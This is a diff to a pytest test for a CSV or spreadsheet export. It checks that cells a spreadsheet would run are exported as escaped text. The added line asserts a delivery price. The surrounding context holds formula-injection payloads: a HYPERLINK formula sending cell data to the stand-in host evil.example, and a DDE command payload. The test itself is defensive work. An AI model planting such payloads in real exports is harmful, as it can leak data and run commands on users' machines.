@@ -148,6 +148,7 @@ def test_text_a_spreadsheet_would_run_is_exported_as_text(network):
     assert row["customer_name"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'
     assert row["external_ref"] == "'-cmd|' /C calc'!A0"
     assert row["customer_phone"] == "+33 6 00 00 00 00" and row["total_value"] == "19.90"
+    assert row["delivery_price"] == "0.00"  # what the customer paid for delivery, apart from the goods
 
 
 @pytest.mark.parametrize("day", PARIS_DAYS, ids=str)
